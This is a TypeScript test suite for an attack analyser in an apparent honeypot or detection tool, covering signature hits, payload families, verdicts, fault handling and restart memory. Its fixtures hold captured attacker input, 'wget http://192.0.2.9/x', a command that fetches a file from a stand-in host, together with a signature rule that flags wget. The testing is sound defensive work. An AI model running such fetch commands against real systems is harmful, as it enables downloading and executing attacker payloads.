// The analyser with parts that are told what to say: what reaches whom, what a fault costs, what a restart remembers.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sampleChunk, sampleProbe, sampleSession } from '../../test/support/sample-records.ts';
import { type Log, silentLog } from '../base/log.ts';
import type { WeirEvent } from '../model/event.ts';
import type { Insights, PayloadFamily, SignatureHit, Verdict } from '../model/insight.ts';
import type { SessionRecord } from '../model/session.ts';
import { MemoryStore } from '../record/memory-store.ts';
import { Analyser, type AnalyserStore, type AnalysisParts, failedTag } from './analyser.ts';

const at = 1_700_000_000_000_000;
const eventOf = (session: SessionRecord): WeirEvent => ({ kind: 'session', session });
const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');

const hit = (rule: string): SignatureHit => ({
  rule,
  name: rule,
  intention: 'exploit',
  severity: 'high',
  tags: ['iot'],
  cves: [],
  techniques: ['T1190'],
  captures: {},
});

const family = (id: string): PayloadFamily => ({
  id,
  firstSeen: at,
  payloadHash: '00',
  example: new Uint8Array(0),
  sketch: new Uint8Array(0),
  label: id,
});

const verdict = (source: string): Verdict => ({
  id: '0123456789abcdefghj',
  behaviour: 'port-scan',
  source,
  start: at,
  end: at,
  severity: 'low',
  confidence: 'certain',
  hits: 1,
  ports: 1,
  hosts: 1,
  credentials: 0,
  techniques: [],
  cves: [],
  evidence: [],
  records: [],
});

/** Families by first byte; behaviours that keep what they were told. */
function bed(more: Partial<AnalysisParts> = {}, log: Log = silentLog) {
  const records = new MemoryStore();
  const kept: Insights[] = [];
  const store: AnalyserStore = {
    session: (id) => records.session(id),
    sessions: (filter) => records.sessions(filter),
    probes: (filter) => records.probes(filter),
    verdicts: async () => kept.flatMap(({ verdicts }) => verdicts),
    families: async () => kept.flatMap(({ families }) => families),
    insights: async (of) => kept.flatMap(({ sessions }) => sessions).filter(({ id }) => of.some((one) => one.id === id)),
  };
  const apply = async (events: readonly WeirEvent[], insights?: Insights): Promise<void> => {
    await records.apply(events, {});
    if (insights) kept.push(insights);
  };
  const taken: { event: WeirEvent; rules: string[]; input: string | undefined; facts: string[] }[] = [];
  const restored: string[][] = [];
  const remembered: string[][] = [];
  const told: boolean[] = [];
  const parts: AnalysisParts = {
    signatures: { size: 3, match: ({ input }) => (text(input).includes('wget') ? [hit('wget')] : []) },
    extractFacts: ({ input }) => (input.length === 0 ? [] : [{ kind: 'command', value: text(input) }]),
    places: { of: (ip) => (ip.startsWith('10.') ? undefined : { ip, country: 'NL' }) },
    createFamilies: (known) => {
      restored.push(known.map(({ id }) => id));
      const ids = new Set(known.map(({ id }) => id));
      return {
        assign: ({ input }) => {
          if (input.length === 0) return undefined;
          const id = text(input.subarray(0, 1));
          const founded = ids.has(id) ? undefined : family(id);
          ids.add(id);
          return { family: id, ...(founded && { founded }) };
        },
      };
    },
    createBehaviours: () => ({
      take: (event, hits = [], view, facts = []) =>
        taken.push({
          event,
          rules: hits.map(({ rule }) => rule),
          input: view && text(view.input),
          facts: facts.map(({ value }) => value),
        }),
      flush: (all) => {
        told.push(all === true);
        return [verdict('192.0.2.1')];
      },
      restore: (verdicts) => remembered.push(verdicts.map(({ source }) => source)),
      counters: () => ({ pending: told.length > 2 ? 0 : 1, evicted: 0 }),
    }),
    ...more,
  };
  const analyser = new Analyser({ store, parts, log });
  return { apply, analyser, taken, restored, remembered, told };
}

const wget = (number: number, source = '203.0.113.9') =>
  sampleSession(at + number, number, {
    source: { ip: source, port: 40_000 },
    chunks: [sampleChunk(at + number, 'in', 'wget http://192.0.2.9/x')],
  });

describe('Analyser', () => {
  it('finds what its parts find, once a session ended, and tells behaviour of everything in order', async () => {
    const { analyser, taken } = bed();
    await analyser.begin();
    const whole = wget(1);
    const open = { ...wget(2), outcome: 'open' as const, end: undefined };
    const silent = sampleSession(at + 3, 3);
    const events = [eventOf(whole), eventOf(open), eventOf(silent), { kind: 'probe' as const, probe: sampleProbe(at, 4) }];
    const first = await analyser.analyse(events);
    assert.equal(first.events, events);
    assert.deepEqual(
      first.insights.sessions.map(({ id, signatures, facts, family: of }) => [id, signatures[0].rule, facts[0].value, of]),
      [[whole.id, 'wget', 'wget http://192.0.2.9/x', 'w']],
    );
    assert.deepEqual(
      first.insights.families.map(({ id }) => id),
      ['w'],
    );
    assert.deepEqual(first.insights.places, [
      { ip: '203.0.113.9', country: 'NL' },
      { ip: '198.51.100.7', country: 'NL' },
    ]);
    assert.deepEqual(
      first.insights.verdicts.map(({ source }) => source),
      ['192.0.2.1'],
    );
    const ended = { ...whole, ...open, sequence: 1, outcome: 'idle' as const, end: at + 9, firstChunk: 1, chunks: [] };
    const second = await analyser.analyse([eventOf(ended)]);
    assert.deepEqual(
      second.insights.sessions.map(({ id, family: of }) => [id, of]),
      [[open.id, 'w']],
    );
    assert.deepEqual([second.insights.families, second.insights.places], [[], []]);
    assert.deepEqual(
      taken.map(({ event, rules, input, facts }) => [event.kind, rules.join(), input, facts.join()]),
      [
        ['session', 'wget', 'wget http://192.0.2.9/x', 'wget http://192.0.2.9/x'],
        ['session', '', undefined, ''],
        ['session', '', '', ''],
        ['probe', '', undefined, ''],
        ['session', 'wget', 'wget http://192.0.2.9/x', 'wget http://192.0.2.9/x'],
      ],
    );
    const { sessions, matched, rules, held } = analyser.status();
    assert.deepEqual({ sessions, matched, rules, held }, { sessions: 3, matched: 2, rules: 3, held: 0 });
  });

  it('reads back from the store what a process before it recorded', async () => {
    const { analyser, apply } = bed();
    const open = { ...wget(1), outcome: 'open' as const, end: undefined };
    await apply([eventOf(open)]);
    await analyser.begin();
    const ended = { ...open, sequence: 1, outcome: 'interrupted' as const, end: at + 9, firstChunk: 1, chunks: [] };
    const { insights } = await analyser.analyse([eventOf(ended)]);
    assert.equal(insights.sessions[0].signatures[0].rule, 'wget');
    assert.equal(analyser.status().partial, 0);
  });

  it('a part that fails costs its findings alone: tagged, counted, said once', async () => {
    const said: string[] = [];
    const { analyser } = bed(
      {
        extractFacts: ({ input }) => {
          if (text(input).includes('9/x')) throw new RangeError('bad facts');
          return [];
        },
      },
      { ...silentLog, error: (message, fields) => said.push(`${message} ${fields?.part} ${fields?.message}`) },
    );
    await analyser.begin();
    const harmless = sampleSession(at + 7, 7, { chunks: [sampleChunk(at, 'in', 'hello')] });
    const { events, insights } = await analyser.analyse([eventOf(wget(1)), eventOf(harmless), eventOf(wget(2))]);
    assert.deepEqual(
      events.map((event) => event.kind === 'session' && event.session.tags?.includes(failedTag)),
      [true, undefined, true],
    );
    assert.deepEqual(
      insights.sessions.map(({ signatures, family: of }) => `${signatures.length} ${of}`),
      ['1 w', '0 h', '1 w'],
    );
    assert.deepEqual(analyser.status().faults, { facts: 2 });
    assert.equal(said.length, 1);
    assert.match(said[0], /facts .*bad facts/);
  });

  it('remembers families and the newest half hour after a restart, and tells nobody of it again', async () => {
    const { analyser, apply, taken, restored, remembered } = bed();
    await analyser.begin();
    const old = sampleSession(at - 3600e6, 9);
    const events = [eventOf(old), eventOf(wget(1)), { kind: 'probe' as const, probe: sampleProbe(at - 5e6, 4) }];
    const { insights } = await analyser.analyse(events);
    await apply(events, insights);
    taken.length = 0;
    await analyser.begin();
    assert.deepEqual(restored, [[], ['w']]);
    assert.deepEqual(remembered, [['192.0.2.1']]);
    assert.deepEqual(
      taken.map(({ event, rules, facts }) => [event.kind, rules.join(), facts.join()]),
      [
        ['probe', '', ''],
        ['session', 'wget', 'wget http://192.0.2.9/x'],
      ],
    );
    const again = await analyser.analyse([eventOf(wget(1))]);
    assert.deepEqual(again.insights.sessions, insights.sessions);
    assert.deepEqual(again.insights.families, []);
  });

  it('tells what waited when nothing comes, as long as something waits', async () => {
    const { analyser, told } = bed();
    assert.equal(analyser.late(false), undefined, 'nothing is known yet');
    await analyser.begin();
    await analyser.analyse([eventOf(wget(1))]);
    assert.deepEqual(
      analyser.late(false)?.verdicts.map(({ source }) => source),
      ['192.0.2.1'],
    );
    assert.ok(analyser.late(true));
    assert.equal(analyser.late(true), undefined);
    assert.deepEqual(told, [false, false, true]);
  });

  it('lets others have a turn in a long batch', async () => {
    const { analyser } = bed({
      signatures: {
        size: 1,
        match: () => {
          const end = performance.now() + 2;
          while (performance.now() < end);
          return [];
        },
      },
    });
    await analyser.begin();
    let turns = 0;
    const count = (): void => {
      turns += 1;
      turn = setImmediate(count);
    };
    let turn = setImmediate(count);
    await analyser.analyse(Array.from({ length: 50 }, (_, number) => eventOf(wget(number))));
    clearImmediate(turn);
    assert.ok(turns >= 4, String(turns));
  });
});
